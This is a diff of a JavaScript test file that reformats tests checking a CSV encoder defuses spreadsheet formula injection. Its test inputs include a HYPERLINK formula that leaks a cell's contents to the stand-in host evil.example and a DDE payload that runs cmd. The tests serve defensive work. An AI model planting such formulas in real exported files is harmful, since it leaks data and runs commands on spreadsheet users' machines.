@@ -19,14 +19,24 @@ describe('a line of CSV', () => {
     expect(csvLine([1, 'a', null, true])).toBe('1,"a",,true\r\n');
   });
 
-  it.each(['=1+1', '=HYPERLINK("http://evil.example?"&A1)', '+1', '-1', "@SUM(1)|cmd|' /C calc'!A0", '\t=1', '\r=1', '\n=1', '＝1', '＋1', '－1', '＠x'])(
-    'defuses %j',
-    (formula) => {
-      const line = csvLine([formula]);
-      expect(line.startsWith(`"'${formula[0]}`)).toBe(true);
-      expect(line).toBe(`"'${formula.replaceAll('"', '""')}"\r\n`);
-    },
-  );
+  it.each([
+    '=1+1',
+    '=HYPERLINK("http://evil.example?"&A1)',
+    '+1',
+    '-1',
+    "@SUM(1)|cmd|' /C calc'!A0",
+    '\t=1',
+    '\r=1',
+    '\n=1',
+    '＝1',
+    '＋1',
+    '－1',
+    '＠x',
+  ])('defuses %j', (formula) => {
+    const line = csvLine([formula]);
+    expect(line.startsWith(`"'${formula[0]}`)).toBe(true);
+    expect(line).toBe(`"'${formula.replaceAll('"', '""')}"\r\n`);
+  });
 
   it.each(['a=1', 'x-1', "'=1", ' =1', '1+1', '{"=":1}'])('leaves %j alone', (text) => {
     expect(csvLine([text])).toBe(`"${text.replaceAll('"', '""')}"\r\n`);
